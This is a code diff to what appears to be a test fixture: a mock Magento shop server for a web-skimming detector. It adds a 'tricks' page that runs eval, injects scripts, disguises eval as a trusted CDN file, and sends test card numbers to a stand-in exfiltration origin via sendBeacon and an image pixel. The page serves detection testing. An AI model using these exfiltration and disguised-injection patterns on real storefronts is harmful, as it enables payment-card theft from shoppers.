@@ -168,6 +168,23 @@ require(${JSON.stringify(['Magento_Theme/js/theme', 'Magento_Customer/js/custome
 `;
 }
 
+/**
+ * Every way a script or a connection comes about at run time, each tagged with a marker the
+ * test looks for: eval, an injected inline element, an eval disguised by //# sourceURL, a
+ * data: URL script; a debugger statement; a beacon, an EventSource, an image pixel, a fetch.
+ */
+const tricks = (o: Origins) => `
+eval('window.__a = 1; /*eval-marker*/');
+var s = document.createElement('script'); s.textContent = 'window.__b = 2; /*injected-inline-marker*/'; document.head.appendChild(s);
+eval('window.__c = 3; /*disguised-marker*/\\n//# sourceURL=https://cdn.trusted.test/jquery.min.js');
+var d = document.createElement('script'); d.src = 'data:text/javascript,window.__d%3D4%3B%2F*data-marker*%2F'; document.head.appendChild(d);
+debugger;
+navigator.sendBeacon('${o.exfil}/b', 'card=4111');
+new EventSource('/lab/events');
+new Image().src = '${o.exfil}/p.gif?c=4111';
+fetch('${o.psp}/v3/config.json', { mode: 'no-cors' });
+`;
+
 const pspTag = (o: Origins, path: string, pinned: string) => `<script src="${o.psp}${path}" integrity="${pinned}" crossorigin="anonymous"></script>\n`;
 
 function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, res: ServerResponse) => void {
@@ -184,6 +201,7 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
     '/customer/account/login/': () =>
       page('Customer Login', '<h1>Customer Login</h1><form action="/customer/account/loginPost/" method="post"><input name="login[username]"><input type="password" name="login[password]"><button>Sign In</button></form>', []),
     '/lab/psp-changed/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_CHANGED_PATH, sri(PSP_SCRIPT))),
+    '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
   };
   const scripts: Readonly<Record<string, () => string>> = {
     [`${STATIC}requirejs/require.js`]: () => REQUIRE_JS,
@@ -199,6 +217,8 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
     if (js) return void res.writeHead(200, { 'content-type': 'application/javascript', 'x-content-type-options': 'nosniff' }).end(js());
     if (path === '/checkout/') return void res.writeHead(302, { location: '/checkout/index/', ...storeHeaders(o) }).end();
     if (path === '/customer/section/load/') return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"cart":{"summary_count":1},"customer":{}}');
+    // An event stream that stays open: it must not keep the page from settling.
+    if (path === '/lab/events') return void res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' }).write('data: hello\n\n');
     if (path === '/lab/moved/') return void res.writeHead(302, { location: 'https://www.shop-elsewhere.test/checkout/' }).end();
     if (path === '/lab/maintenance/') {
       return void res.writeHead(503, { 'retry-after': '3600', 'content-type': 'text/html' }).end('<!doctype html><html><head><title>Service Temporarily Unavailable</title></head><body><h1>Service Temporarily Unavailable</h1></body></html>');
